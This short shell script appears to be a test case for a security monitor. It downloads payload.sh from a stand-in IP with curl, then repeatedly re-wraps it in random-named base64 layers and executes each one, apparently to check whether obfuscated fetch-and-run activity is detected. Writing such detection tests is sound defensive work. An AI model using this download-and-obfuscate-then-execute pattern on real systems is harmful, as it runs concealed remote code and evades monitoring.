#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/payload.sh >/tmp/g0
for n in 1 2 3 4 5; do
    v=$(tr -dc a-z </dev/urandom | head -c 9)
    { echo '#!/bin/sh'; echo "$v=$(base64 -w0 </tmp/g$((n - 1)))"; echo "echo \"\$$v\" | base64 -d | sh # $(tr -dc a-z </dev/urandom | head -c $((n * 20)))"; } >/tmp/g$n
    chmod +x /tmp/g$n; rm /tmp/g$((n - 1)); /tmp/g$n; test -e /tmp/reached; rm /tmp/reached
done
test -s /tmp/g5
took_place
